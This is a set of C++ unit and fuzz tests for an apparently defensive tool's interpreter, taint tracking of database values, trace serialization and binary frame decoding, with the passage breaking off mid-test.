  EXPECT_EQ(r.io.screen[0], "hello world!");
  EXPECT_EQ(r.io.screen[1], "n=42");
}

TEST(InterpreterTest, ControlFlow) {
  const RunResult r = RunApp(R"(
fn main() {
  var i = 0;
  while (i < 5) {
    if (i % 2 == 0) { print("even", i); } else { print("odd", i); }
    i = i + 1;
  }
}
)");
  ASSERT_TRUE(r.status.ok());
  ASSERT_EQ(r.io.screen.size(), 5u);
  EXPECT_EQ(r.io.screen[0], "even 0");
  EXPECT_EQ(r.io.screen[1], "odd 1");
}

TEST(InterpreterTest, FunctionsAndReturn) {
  const RunResult r = RunApp(R"(
fn main() {
  print(add(2, 3));
  print(fib(7));
}
fn add(a, b) { return a + b; }
fn fib(n) {
  if (n < 2) { return n; }
  return fib(n - 1) + fib(n - 2);
}
)");
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  EXPECT_EQ(r.io.screen[0], "5");
  EXPECT_EQ(r.io.screen[1], "13");
}

TEST(InterpreterTest, InputFeed) {
  const RunResult r = RunApp(R"(
fn main() {
  while (has_input()) {
    print("got: " + scan());
  }
  print(is_null(scan()));
}
)",
                          {"a", "b"});
  ASSERT_TRUE(r.status.ok());
  ASSERT_EQ(r.io.screen.size(), 3u);
  EXPECT_EQ(r.io.screen[0], "got: a");
  EXPECT_EQ(r.io.screen[1], "got: b");
  EXPECT_EQ(r.io.screen[2], "1");  // exhausted scan() returns null
}

TEST(InterpreterTest, DbRoundTrip) {
  auto database = MakeItemsDb();
  const RunResult r = RunApp(R"(
fn main() {
  var res = db_query("SELECT name FROM items WHERE id >= 2");
  var n = db_ntuples(res);
  print("rows", n);
  var i = 0;
  while (i < n) {
    print(db_getvalue(res, i, 0));
    i = i + 1;
  }
}
)",
                          {}, database.get());
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  ASSERT_EQ(r.io.screen.size(), 3u);
  EXPECT_EQ(r.io.screen[0], "rows 2");
  EXPECT_EQ(r.io.screen[1], "watch");
  EXPECT_EQ(r.io.screen[2], "coin");
}

TEST(InterpreterTest, FetchRowCursor) {
  auto database = MakeItemsDb();
  const RunResult r = RunApp(R"(
fn main() {
  var res = db_query("SELECT * FROM items");
  var row = db_fetch_row(res);
  while (!is_null(row)) {
    print(row_get(row, 1));
    row = db_fetch_row(res);
  }
}
)",
                          {}, database.get());
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  ASSERT_EQ(r.io.screen.size(), 3u);
  EXPECT_EQ(r.io.screen[0], "ring");
}

TEST(InterpreterTest, BadQueryReturnsNullNotError) {
  auto database = MakeItemsDb();
  const RunResult r = RunApp(R"(
fn main() {
  var res = db_query("SELECT * FROM no_such_table");
  if (is_null(res)) { print("query failed"); }
}
)",
                          {}, database.get());
  ASSERT_TRUE(r.status.ok());
  EXPECT_EQ(r.io.screen[0], "query failed");
}

TEST(InterpreterTest, FileAndNetworkChannels) {
  const RunResult r = RunApp(R"(
fn main() {
  write_file("out.txt", "line1");
  fprint("out.txt", "line2");
  send_net("host:99", "payload");
}
)");
  ASSERT_TRUE(r.status.ok());
  ASSERT_EQ(r.io.files.at("out.txt").size(), 2u);
  EXPECT_EQ(r.io.network[0], "host:99|payload");
}

TEST(InterpreterTest, TraceRecordsCallsWithCallers) {
  const RunResult r = RunApp(R"(
fn main() {
  print("a");
  helper();
}
fn helper() { print("b"); }
)");
  ASSERT_TRUE(r.status.ok());
  // User calls are not trace events; two prints with correct callers.
  ASSERT_EQ(r.trace.size(), 2u);
  EXPECT_EQ(r.trace[0].callee, "print");
  EXPECT_EQ(r.trace[0].caller, "main");
  EXPECT_EQ(r.trace[1].caller, "helper");
  EXPECT_GE(r.trace[0].block_id, 0);
}

TEST(InterpreterTest, DynamicTaintLabelsTdOutputs) {
  auto database = MakeItemsDb();
  const RunResult r = RunApp(R"(
fn main() {
  var res = db_query("SELECT name FROM items");
  print("header");
  print(db_getvalue(res, 0, 0));
}
)",
                          {}, database.get());
  ASSERT_TRUE(r.status.ok());
  // Events: db_query, print(header), db_getvalue, print(TD).
  ASSERT_EQ(r.trace.size(), 4u);
  EXPECT_FALSE(r.trace[1].td_output);
  EXPECT_TRUE(r.trace[3].td_output);
  ASSERT_EQ(r.trace[3].source_tables.size(), 1u);
  EXPECT_EQ(r.trace[3].source_tables[0], "items");
  EXPECT_EQ(r.trace[3].Observable(),
            "print_Qmain_" + std::to_string(r.trace[3].block_id));
}

TEST(InterpreterTest, TaintFlowsThroughStringOps) {
  auto database = MakeItemsDb();
  const RunResult r = RunApp(R"(
fn main() {
  var res = db_query("SELECT name FROM items");
  var v = db_getvalue(res, 0, 0);
  var masked = upper(substr("prefix " + v, 0, 9));
  print(masked);
}
)",
                          {}, database.get());
  ASSERT_TRUE(r.status.ok());
  EXPECT_TRUE(r.trace.back().td_output);
}

TEST(InterpreterTest, ShortCircuitEvaluation) {
  const RunResult r = RunApp(R"(
fn main() {
  var x = 0;
  if (x != 0 && 10 / x > 1) { print("no"); } else { print("safe"); }
  if (x == 0 || 10 / x > 1) { print("also safe"); }
}
)");
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  EXPECT_EQ(r.io.screen[0], "safe");
  EXPECT_EQ(r.io.screen[1], "also safe");
}

TEST(InterpreterTest, RuntimeErrors) {
  EXPECT_FALSE(RunApp("fn main() { print(1 / 0); }").status.ok());
  EXPECT_FALSE(RunApp("fn main() { var x = \"a\" - 1; }").status.ok());
  EXPECT_FALSE(RunApp("fn main() { unknown_library_fn(); }").status.ok());
  EXPECT_FALSE(RunApp("fn main() { substr(1, 2, 3); }").status.ok());
  // db_query without a database.
  EXPECT_FALSE(RunApp("fn main() { db_query(\"SELECT 1\"); }").status.ok());
}

TEST(InterpreterTest, StepLimitStopsInfiniteLoop) {
  auto program = prog::ParseProgram("fn main() { while (1) { } }");
  ASSERT_TRUE(program.ok());
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  InterpreterOptions options;
  options.max_steps = 1000;
  Interpreter interpreter(*program, *cfgs, nullptr, options);
  auto result = interpreter.Run({});
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), util::StatusCode::kFailedPrecondition);
}

TEST(InterpreterTest, StringBuiltins) {
  const RunResult r = RunApp(R"(
fn main() {
  print(len("hello"));
  print(upper("abc"), lower("XYZ"));
  print(contains("haystack", "stack"));
  print(trim("  pad  "));
  print(to_int("42") + 1);
  print(like_match("report.txt", "%.txt"));
  print(checksum("stable") == checksum("stable"));
  print(compress("aaabbc"));
}
)");
  ASSERT_TRUE(r.status.ok()) << r.status.ToString();
  EXPECT_EQ(r.io.screen[0], "5");
  EXPECT_EQ(r.io.screen[1], "ABC xyz");
  EXPECT_EQ(r.io.screen[2], "1");
  EXPECT_EQ(r.io.screen[3], "pad");
  EXPECT_EQ(r.io.screen[4], "43");
  EXPECT_EQ(r.io.screen[5], "1");
  EXPECT_EQ(r.io.screen[6], "1");
  EXPECT_EQ(r.io.screen[7], "3a2b1c");
}

}  // namespace
}  // namespace adprom::runtime
