#include "runtime/value.h"

#include <gtest/gtest.h>

namespace adprom::runtime {
namespace {

TEST(RtValueTest, TypesAndTruthiness) {
  EXPECT_FALSE(RtValue::Null().Truthy());
  EXPECT_FALSE(RtValue::Int(0).Truthy());
  EXPECT_TRUE(RtValue::Int(5).Truthy());
  EXPECT_FALSE(RtValue::Real(0.0).Truthy());
  EXPECT_TRUE(RtValue::Real(0.1).Truthy());
  EXPECT_FALSE(RtValue::Str("").Truthy());
  EXPECT_TRUE(RtValue::Str("x").Truthy());
}

TEST(RtValueTest, NumericView) {
  double d = 0;
  EXPECT_TRUE(RtValue::Int(4).TryNumeric(&d));
  EXPECT_DOUBLE_EQ(d, 4.0);
  EXPECT_TRUE(RtValue::Real(2.5).TryNumeric(&d));
  EXPECT_DOUBLE_EQ(d, 2.5);
  EXPECT_FALSE(RtValue::Str("9").TryNumeric(&d));  // strings stay strings
  EXPECT_FALSE(RtValue::Null().TryNumeric(&d));
}

TEST(RtValueTest, DbResultCarriesProvenance) {
  auto handle = std::make_shared<DbResultHandle>();
  handle->result.source_table = "patients";
  const RtValue v = RtValue::DbResult(handle);
  EXPECT_TRUE(v.tainted());
  EXPECT_EQ(v.provenance().count("patients"), 1u);
}

TEST(RtValueTest, ProvenancePropagation) {
  RtValue tainted = RtValue::Str("secret");
  tainted.AddProvenance("accounts");
  RtValue derived = RtValue::Str("prefix: secret");
  EXPECT_FALSE(derived.tainted());
  derived.MergeProvenance(tainted);
  EXPECT_TRUE(derived.tainted());
  EXPECT_EQ(derived.provenance().count("accounts"), 1u);
}

TEST(RtValueTest, EmptyTableNameBecomesUnknown) {
  RtValue v = RtValue::Int(1);
  v.AddProvenance("");
  EXPECT_TRUE(v.tainted());
  EXPECT_EQ(v.provenance().count("<unknown>"), 1u);
}

TEST(RtValueTest, RowTruthinessTracksEmptiness) {
  auto row = std::make_shared<DbRowHandle>();
  row->source_table = "t";
  EXPECT_FALSE(RtValue::DbRow(row).Truthy());  // no cells: exhausted
  row->cells.push_back(db::Value::Int(1));
  EXPECT_TRUE(RtValue::DbRow(row).Truthy());
}

TEST(RtValueTest, ToString) {
  EXPECT_EQ(RtValue::Null().ToString(), "null");
  EXPECT_EQ(RtValue::Int(3).ToString(), "3");
  EXPECT_EQ(RtValue::Str("hi").ToString(), "hi");
}

}  // namespace
}  // namespace adprom::runtime
