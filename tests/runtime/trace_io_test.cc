#include "runtime/trace_io.h"

#include <gtest/gtest.h>

namespace adprom::runtime {
namespace {

CallEvent MakeEvent(const std::string& callee, const std::string& caller,
                    int block, bool td = false) {
  CallEvent event;
  event.callee = callee;
  event.caller = caller;
  event.block_id = block;
  event.call_site_id = block * 7;
  event.td_output = td;
  return event;
}

TEST(TraceIoTest, RoundTripBasic) {
  Trace trace;
  trace.push_back(MakeEvent("db_query", "main", 3));
  trace.back().query_signature = "SELECT * FROM t WHERE id = ?";
  trace.push_back(MakeEvent("print", "report", 9, /*td=*/true));
  trace.back().source_tables = {"items", "clients"};

  auto parsed = ParseTrace(SerializeTrace(trace));
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  ASSERT_EQ(parsed->size(), 2u);
  EXPECT_EQ((*parsed)[0].callee, "db_query");
  EXPECT_EQ((*parsed)[0].query_signature, "SELECT * FROM t WHERE id = ?");
  EXPECT_EQ((*parsed)[1].caller, "report");
  EXPECT_EQ((*parsed)[1].block_id, 9);
  EXPECT_EQ((*parsed)[1].call_site_id, 63);
  EXPECT_TRUE((*parsed)[1].td_output);
  EXPECT_EQ((*parsed)[1].source_tables,
            (std::vector<std::string>{"items", "clients"}));
  EXPECT_EQ((*parsed)[1].Observable(), trace[1].Observable());
}

TEST(TraceIoTest, EscapesSpecialCharacters) {
  Trace trace;
  trace.push_back(MakeEvent("print", "main", 1, true));
  trace.back().query_signature = "a\tb\nc%d";
  trace.back().source_tables = {"ta,ble", "x%y"};
  auto parsed = ParseTrace(SerializeTrace(trace));
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  EXPECT_EQ((*parsed)[0].query_signature, "a\tb\nc%d");
  EXPECT_EQ((*parsed)[0].source_tables,
            (std::vector<std::string>{"ta,ble", "x%y"}));
}

TEST(TraceIoTest, EmptyTrace) {
  EXPECT_EQ(SerializeTrace({}), "");
  auto parsed = ParseTrace("");
  ASSERT_TRUE(parsed.ok());
  EXPECT_TRUE(parsed->empty());
}

TEST(TraceIoTest, RejectsMalformedLines) {
  EXPECT_FALSE(ParseTrace("too\tfew\tfields\n").ok());
  EXPECT_FALSE(
      ParseTrace("a\tb\t1\t2\tX\tsig\ttables\n").ok());  // bad td flag
  EXPECT_FALSE(
      ParseTrace("a\tb\t1\t2\t0\tbad%GG\t\n").ok());  // bad escape
  EXPECT_FALSE(ParseTrace("a\tb\t1\t2\t0\ttrunc%0\t\n").ok());
}

TEST(TraceIoTest, NegativeBlockIdsSurvive) {
  Trace trace;
  trace.push_back(MakeEvent("rogue", "main", -1));
  auto parsed = ParseTrace(SerializeTrace(trace));
  ASSERT_TRUE(parsed.ok());
  EXPECT_EQ((*parsed)[0].block_id, -1);
}

}  // namespace
}  // namespace adprom::runtime
