#include "runtime/collector.h"

#include <gtest/gtest.h>

namespace adprom::runtime {
namespace {

CallEvent MakeEvent(const std::string& callee, const std::string& caller,
                    int block = 1) {
  CallEvent event;
  event.callee = callee;
  event.caller = caller;
  event.block_id = block;
  event.call_site_id = block * 10;
  return event;
}

TEST(LightCollectorTest, RecordsEventsInOrder) {
  LightCollector collector;
  collector.OnCall(MakeEvent("print", "main"), {});
  collector.OnCall(MakeEvent("scan", "main"), {});
  ASSERT_EQ(collector.trace().size(), 2u);
  EXPECT_EQ(collector.trace()[0].callee, "print");
  EXPECT_EQ(collector.trace()[1].callee, "scan");
}

TEST(LightCollectorTest, TakeTraceMovesAndClears) {
  LightCollector collector;
  collector.OnCall(MakeEvent("print", "main"), {});
  Trace trace = collector.TakeTrace();
  EXPECT_EQ(trace.size(), 1u);
  EXPECT_TRUE(collector.trace().empty());
}

TEST(HeavyTracerTest, FormatsArgumentsAndResolvesCaller) {
  HeavyTracer tracer;
  std::vector<RtValue> args = {RtValue::Str("hello"), RtValue::Int(7)};
  tracer.OnCall(MakeEvent("print", "report", 3), args);
  ASSERT_EQ(tracer.lines().size(), 1u);
  const std::string& line = tracer.lines()[0];
  EXPECT_NE(line.find("print(\"hello\", \"7\")"), std::string::npos);
  EXPECT_NE(line.find("report"), std::string::npos);
}

TEST(HeavyTracerTest, CachesSymbolResolution) {
  HeavyTracer tracer;
  for (int i = 0; i < 5; ++i) {
    tracer.OnCall(MakeEvent("print", "main", 1), {});
  }
  EXPECT_EQ(tracer.lines().size(), 5u);
  EXPECT_EQ(tracer.trace().size(), 5u);
}

TEST(NullCollectorTest, OnlyCounts) {
  NullCollector collector;
  collector.OnCall(MakeEvent("a", "main"), {});
  collector.OnCall(MakeEvent("b", "main"), {});
  EXPECT_EQ(collector.count(), 2u);
}

TEST(CallEventTest, ObservableLabeling) {
  CallEvent plain = MakeEvent("print", "main", 4);
  EXPECT_EQ(plain.Observable(), "print");
  CallEvent labeled = MakeEvent("print", "main", 4);
  labeled.td_output = true;
  EXPECT_EQ(labeled.Observable(), "print_Qmain_4");
}

}  // namespace
}  // namespace adprom::runtime
