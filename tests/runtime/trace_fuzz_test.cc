// Fuzz-style malformed-input corpus for the trace wire format: truncated
// files, bad integers, bad escapes, wrong field counts, and random byte
// soup must all come back as clean util::Result errors — never a crash or
// a silently-wrong event. Runs under ASan/TSan in the sanitizer CI jobs.

#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "runtime/trace_io.h"
#include "util/rng.h"

namespace adprom::runtime {
namespace {

CallEvent MakeEvent(int i) {
  CallEvent event;
  event.callee = "print";
  event.caller = "fn_" + std::to_string(i);
  event.block_id = i;
  event.call_site_id = 10 + i;
  event.td_output = (i % 2) == 1;
  event.query_signature = "SELECT * FROM t WHERE id = ?";
  event.source_tables = {"items", "users"};
  return event;
}

TEST(TraceFuzzTest, EventRoundTripSurvivesHostileCharacters) {
  CallEvent event = MakeEvent(3);
  event.callee = "na%me\twith\nweird,chars";
  event.caller = "100% legit";
  event.source_tables = {"a,b", "c%d"};
  const std::string line = SerializeEvent(event);
  EXPECT_EQ(line.find('\n'), std::string::npos);
  auto parsed = ParseTraceLine(line);
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  EXPECT_EQ(parsed->callee, event.callee);
  EXPECT_EQ(parsed->caller, event.caller);
  EXPECT_EQ(parsed->block_id, event.block_id);
  EXPECT_EQ(parsed->call_site_id, event.call_site_id);
  EXPECT_EQ(parsed->td_output, event.td_output);
  EXPECT_EQ(parsed->query_signature, event.query_signature);
  EXPECT_EQ(parsed->source_tables, event.source_tables);
}

TEST(TraceFuzzTest, MalformedLinesFailCleanly) {
  const std::vector<std::string> corpus = {
      "",                                   // no fields
      "print",                              // 1 field
      "a\tb\tc",                            // 3 fields
      "a\tb\t1\t2\t0\tq\tt\textra",         // 8 fields
      "a\tb\t\t2\t0\t\t",                   // empty block id
      "a\tb\t12x\t2\t0\t\t",                // trailing junk in int
      "a\tb\t--3\t2\t0\t\t",                // double sign
      "a\tb\t0x10\t2\t0\t\t",               // hex is not base 10
      "a\tb\t1 2\t2\t0\t\t",                // space inside int
      "a\tb\t1\t2\t2\t\t",                  // td flag out of 0/1
      "a\tb\t1\t2\ttrue\t\t",               // textual td flag
      "a\tb\t1\t2\t0\tq%\t",                // truncated escape
      "a\tb\t1\t2\t0\tq%0\t",               // one-digit escape
      "a\tb\t1\t2\t0\tq%zz\t",              // non-hex escape
      "a\tb\t1\t2\t0\t\tt1,t%",             // bad escape in table list
  };
  for (const std::string& line : corpus) {
    auto parsed = ParseTraceLine(line);
    EXPECT_FALSE(parsed.ok()) << "accepted: " << line;
  }
}

TEST(TraceFuzzTest, ValidOddballsStillParse) {
  // Negative ids are legitimate (unresolved sites serialize as -1), and an
  // empty table list / signature is the common case.
  auto parsed = ParseTraceLine("scan\tmain\t-1\t-1\t0\t\t");
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  EXPECT_EQ(parsed->block_id, -1);
  EXPECT_EQ(parsed->call_site_id, -1);
  EXPECT_TRUE(parsed->source_tables.empty());
  EXPECT_TRUE(parsed->query_signature.empty());
}

TEST(TraceFuzzTest, ParseTraceNamesTheOffendingLine) {
  const std::string good = SerializeEvent(MakeEvent(0));
  auto result = ParseTrace(good + "\ngarbage line\n");
  ASSERT_FALSE(result.ok());
  EXPECT_NE(result.status().ToString().find("line 2"), std::string::npos)
      << result.status().ToString();
}

TEST(TraceFuzzTest, EveryTruncationOfAValidFileFailsCleanly) {
  Trace trace = {MakeEvent(0), MakeEvent(1), MakeEvent(2)};
  const std::string text = SerializeTrace(trace);
  for (size_t cut = 0; cut <= text.size(); ++cut) {
    auto result = ParseTrace(text.substr(0, cut));
    if (result.ok()) {
      // Prefixes that happen to end on an event boundary parse as a
      // shorter — but valid — trace; anything else must error out.
      EXPECT_LE(result->size(), trace.size());
    }
  }
  auto full = ParseTrace(text);
  ASSERT_TRUE(full.ok());
  EXPECT_EQ(full->size(), trace.size());
}

TEST(TraceFuzzTest, RandomByteSoupNeverCrashes) {
  util::Rng rng(20260806);
  const std::string charset =
      "abc09%\t\n,-\\ \"'\x01\x7f";
  for (int round = 0; round < 500; ++round) {
    std::string text;
    const size_t len = rng.UniformU64(120);
    for (size_t i = 0; i < len; ++i) {
      text += charset[rng.UniformU64(charset.size())];
    }
    (void)ParseTrace(text);  // must return, ok or not — never crash
  }
}

TEST(TraceFuzzTest, RandomMutationsOfValidTracesNeverCrash) {
  util::Rng rng(4242);
  const std::string text = SerializeTrace({MakeEvent(0), MakeEvent(1)});
  for (int round = 0; round < 500; ++round) {
    std::string mutated = text;
    const size_t pos = rng.UniformU64(mutated.size());
    mutated[pos] = static_cast<char>(rng.UniformU64(256));
    (void)ParseTrace(mutated);
  }
}

TEST(TraceFuzzTest, TraceReaderStreamsAndSkipsBlankLines) {
  Trace trace = {MakeEvent(0), MakeEvent(1), MakeEvent(2)};
  std::istringstream in("\n" + SerializeEvent(trace[0]) + "\n\n" +
                        SerializeEvent(trace[1]) + "\n" +
                        SerializeEvent(trace[2]) + "\n\n");
  TraceReader reader(&in);
  CallEvent event;
  for (size_t i = 0; i < trace.size(); ++i) {
    auto more = reader.Next(&event);
    ASSERT_TRUE(more.ok()) << more.status().ToString();
    ASSERT_TRUE(*more) << "stream ended early at event " << i;
    EXPECT_EQ(event.caller, trace[i].caller) << i;
  }
  auto end = reader.Next(&event);
  ASSERT_TRUE(end.ok());
  EXPECT_FALSE(*end);
  // And again: the reader stays at clean EOF.
  end = reader.Next(&event);
  ASSERT_TRUE(end.ok());
  EXPECT_FALSE(*end);
}

TEST(TraceFuzzTest, TraceReaderReportsLineNumberOnError) {
  std::istringstream in(SerializeEvent(MakeEvent(0)) + "\n\nbroken\n");
  TraceReader reader(&in);
  CallEvent event;
  ASSERT_TRUE(reader.Next(&event).ok());
  auto bad = reader.Next(&event);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().ToString().find("line 3"), std::string::npos)
      << bad.status().ToString();
  EXPECT_EQ(reader.line_number(), 3u);
}

}  // namespace
}  // namespace adprom::runtime
