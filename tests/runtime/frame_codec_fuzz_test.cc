// Fuzz battery for the binary wire protocol: round trips through hostile
// payload bytes, truncation at every byte offset, corrupted headers
// (magic/version/type/length), strict td flags, trailing payload bytes,
// and random byte soup. Every malformed stream must fail closed with a
// clean diagnostic — never a crash, never an event attributed to the
// wrong tenant or session. Runs under ASan/TSan in the sanitizer CI jobs.

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <vector>

#include "runtime/frame_codec.h"
#include "util/rng.h"

namespace adprom::runtime {
namespace {

CallEvent MakeEvent(int i) {
  CallEvent event;
  event.callee = "print";
  event.caller = "fn_" + std::to_string(i);
  event.block_id = i;
  event.call_site_id = 10 + i;
  event.td_output = (i % 2) == 1;
  event.query_signature = "SELECT * FROM t WHERE id = ?";
  event.source_tables = {"items", "users"};
  return event;
}

void ExpectSameEvent(const CallEvent& expected, const CallEvent& actual) {
  EXPECT_EQ(expected.callee, actual.callee);
  EXPECT_EQ(expected.caller, actual.caller);
  EXPECT_EQ(expected.block_id, actual.block_id);
  EXPECT_EQ(expected.call_site_id, actual.call_site_id);
  EXPECT_EQ(expected.td_output, actual.td_output);
  EXPECT_EQ(expected.query_signature, actual.query_signature);
  EXPECT_EQ(expected.source_tables, actual.source_tables);
}

/// Drains every complete frame; fails the test on a decoder error.
std::vector<Frame> DrainAll(FrameDecoder* decoder) {
  std::vector<Frame> frames;
  while (true) {
    auto next = decoder->Next();
    EXPECT_TRUE(next.ok()) << next.status().ToString();
    if (!next.ok() || !next->has_value()) break;
    frames.push_back(std::move(**next));
  }
  return frames;
}

TEST(FrameCodecTest, RoundTripSurvivesHostileBytes) {
  CallEvent event = MakeEvent(3);
  event.callee = std::string("na\x00me\twith\nweird\x1f,chars", 23);
  event.caller = "100% legit";
  event.query_signature = std::string("\xff\xfe\x00\x01", 4);
  event.source_tables = {"a,b", "", std::string("\t\n%", 3)};

  std::string wire;
  EncodeEventFrame("tenant-\xc3\xa9", "session\x1fkey", event, &wire);
  EncodeEndFrame("tenant-\xc3\xa9", "session\x1fkey", &wire);

  // Feed one byte at a time: the decoder must reassemble across arbitrary
  // chunk boundaries.
  FrameDecoder decoder;
  std::vector<Frame> frames;
  for (const char byte : wire) {
    decoder.Feed(std::string_view(&byte, 1));
    for (Frame& frame : DrainAll(&decoder)) {
      frames.push_back(std::move(frame));
    }
  }
  ASSERT_TRUE(decoder.Finish().ok());
  ASSERT_EQ(frames.size(), 2u);
  EXPECT_EQ(frames[0].type, FrameType::kEvent);
  EXPECT_EQ(frames[0].tenant, "tenant-\xc3\xa9");
  EXPECT_EQ(frames[0].session, "session\x1fkey");
  ExpectSameEvent(event, frames[0].event);
  EXPECT_EQ(frames[1].type, FrameType::kEndSession);
  EXPECT_EQ(frames[1].tenant, "tenant-\xc3\xa9");
  EXPECT_EQ(frames[1].session, "session\x1fkey");
  EXPECT_EQ(decoder.frames_decoded(), 2u);
  EXPECT_EQ(decoder.bytes_consumed(), wire.size());
}

TEST(FrameCodecTest, EmptyIdentifiersAndEmptyEventRoundTrip) {
  std::string wire;
  EncodeEventFrame("", "", CallEvent(), &wire);
  FrameDecoder decoder;
  decoder.Feed(wire);
  auto next = decoder.Next();
  ASSERT_TRUE(next.ok()) << next.status().ToString();
  ASSERT_TRUE(next->has_value());
  EXPECT_TRUE((*next)->tenant.empty());
  EXPECT_TRUE((*next)->session.empty());
  ExpectSameEvent(CallEvent(), (*next)->event);
  EXPECT_TRUE(decoder.Finish().ok());
}

TEST(FrameCodecFuzzTest, TruncationAtEveryByteFailsClosed) {
  std::string wire;
  EncodeEventFrame("t1", "s1", MakeEvent(0), &wire);
  EncodeEndFrame("t1", "s1", &wire);
  const size_t first_frame_size = [] {
    std::string one;
    EncodeEventFrame("t1", "s1", MakeEvent(0), &one);
    return one.size();
  }();

  for (size_t cut = 0; cut < wire.size(); ++cut) {
    FrameDecoder decoder;
    decoder.Feed(std::string_view(wire.data(), cut));
    size_t decoded = 0;
    while (true) {
      auto next = decoder.Next();
      ASSERT_TRUE(next.ok()) << "cut " << cut << ": a clean truncation is "
                             << "not an error until Finish, got "
                             << next.status().ToString();
      if (!next->has_value()) break;
      ++decoded;
    }
    // The only clean stop points are frame boundaries; everywhere else
    // Finish must flag the partial frame.
    if (cut == 0) {
      EXPECT_EQ(decoded, 0u);
      EXPECT_TRUE(decoder.Finish().ok());
    } else if (cut == first_frame_size) {
      EXPECT_EQ(decoded, 1u);
      EXPECT_TRUE(decoder.Finish().ok());
    } else {
      const util::Status finish = decoder.Finish();
      EXPECT_FALSE(finish.ok()) << "cut " << cut;
      EXPECT_NE(finish.ToString().find("mid-frame"), std::string::npos)
          << finish.ToString();
    }
  }
}

TEST(FrameCodecFuzzTest, CorruptHeadersPoisonWithDiagnostics) {
  std::string valid;
  EncodeEventFrame("t", "s", MakeEvent(1), &valid);

  struct Case {
    size_t offset;
    char byte;
    const char* needle;
  };
  const std::vector<Case> corpus = {
      {0, 'X', "bad magic"},           // magic byte 0
      {3, 'Q', "bad magic"},           // magic byte 3
      {4, '\x02', "version"},          // unsupported version
      {4, '\x00', "version"},          // version zero
      {5, '\x03', "unknown frame type"},
      {5, '\x00', "unknown frame type"},
      {9, '\x7f', "exceeds"},          // payload length ~2 GiB
  };
  for (const Case& c : corpus) {
    std::string wire = valid;
    wire[c.offset] = c.byte;
    FrameDecoder decoder;
    decoder.Feed(wire);
    auto next = decoder.Next();
    ASSERT_FALSE(next.ok()) << "offset " << c.offset;
    EXPECT_NE(next.status().ToString().find(c.needle), std::string::npos)
        << next.status().ToString();
    EXPECT_TRUE(decoder.poisoned());
  }
}

TEST(FrameCodecFuzzTest, MalformedPayloadsPoison) {
  // td flag must be strictly 0/1. The flag sits right after the two
  // length-prefixed ids and the two i32s.
  std::string wire;
  EncodeEventFrame("t", "s", MakeEvent(0), &wire);
  const size_t td_offset = 10 + (2 + 1) + (2 + 1) + 4 + 4;
  ASSERT_EQ(wire[td_offset], '\x00');
  wire[td_offset] = '\x02';
  FrameDecoder decoder;
  decoder.Feed(wire);
  auto next = decoder.Next();
  ASSERT_FALSE(next.ok());
  EXPECT_NE(next.status().ToString().find("td_output"), std::string::npos)
      << next.status().ToString();
}

TEST(FrameCodecFuzzTest, TrailingPayloadBytesPoison) {
  // Grow the declared payload length by one and append a stray byte: the
  // frame body parses but does not consume the payload exactly.
  std::string wire;
  EncodeEndFrame("t", "s", &wire);
  const size_t payload_len = wire.size() - 10;
  wire[6] = static_cast<char>(payload_len + 1);
  wire.push_back('\x00');
  FrameDecoder decoder;
  decoder.Feed(wire);
  auto next = decoder.Next();
  ASSERT_FALSE(next.ok());
  EXPECT_NE(next.status().ToString().find("trailing"), std::string::npos)
      << next.status().ToString();
}

TEST(FrameCodecFuzzTest, OversizedIdentifierRejectedBeforeUse) {
  std::string wire;
  EncodeEventFrame(std::string(FrameLimits::kMaxId + 1, 'a'), "s",
                   MakeEvent(0), &wire);
  FrameDecoder decoder;
  decoder.Feed(wire);
  auto next = decoder.Next();
  ASSERT_FALSE(next.ok());
  EXPECT_NE(next.status().ToString().find("tenant id exceeds"),
            std::string::npos)
      << next.status().ToString();
}

TEST(FrameCodecFuzzTest, PoisonIsSticky) {
  std::string bad = "NOPE";
  bad.resize(10, '\x00');
  std::string good;
  EncodeEndFrame("t", "s", &good);

  FrameDecoder decoder;
  decoder.Feed(bad);
  auto first = decoder.Next();
  ASSERT_FALSE(first.ok());
  const std::string message = first.status().ToString();

  // A poisoned decoder never resyncs: further feeds are ignored and every
  // call repeats the original diagnostic (resyncing a length-prefixed
  // stream would risk attributing bytes to the wrong session).
  decoder.Feed(good);
  auto second = decoder.Next();
  ASSERT_FALSE(second.ok());
  EXPECT_EQ(second.status().ToString(), message);
  EXPECT_EQ(decoder.Finish().ToString(), message);
  EXPECT_EQ(decoder.frames_decoded(), 0u);
}

TEST(FrameCodecFuzzTest, ErrorsNameFrameIndexAndByteOffset) {
  std::string wire;
  EncodeEndFrame("t", "s", &wire);
  const size_t first_size = wire.size();
  wire += "GARBAGE_HEADER";
  FrameDecoder decoder;
  decoder.Feed(wire);
  auto first = decoder.Next();
  ASSERT_TRUE(first.ok() && first->has_value());
  auto second = decoder.Next();
  ASSERT_FALSE(second.ok());
  const std::string message = second.status().ToString();
  EXPECT_NE(message.find("frame 1"), std::string::npos) << message;
  EXPECT_NE(message.find("offset " + std::to_string(first_size)),
            std::string::npos)
      << message;
}

TEST(FrameCodecFuzzTest, RandomByteSoupNeverCrashes) {
  util::Rng rng(0xADF0);
  for (int round = 0; round < 200; ++round) {
    const size_t size = rng.UniformU64(512);
    std::string soup;
    soup.reserve(size);
    for (size_t i = 0; i < size; ++i) {
      soup.push_back(static_cast<char>(rng.UniformU64(256)));
    }
    FrameDecoder decoder;
    size_t fed = 0;
    while (fed < soup.size() && !decoder.poisoned()) {
      const size_t chunk =
          1 + rng.UniformU64(std::min<uint64_t>(64, soup.size() - fed));
      decoder.Feed(std::string_view(soup.data() + fed, chunk));
      fed += chunk;
      while (true) {
        auto next = decoder.Next();
        if (!next.ok() || !next->has_value()) break;
      }
    }
    (void)decoder.Finish();  // must not crash either way
  }
}

TEST(FrameCodecFuzzTest, SingleByteMutationsFailClosedOrStayConsistent) {
  std::string wire;
  for (int i = 0; i < 3; ++i) {
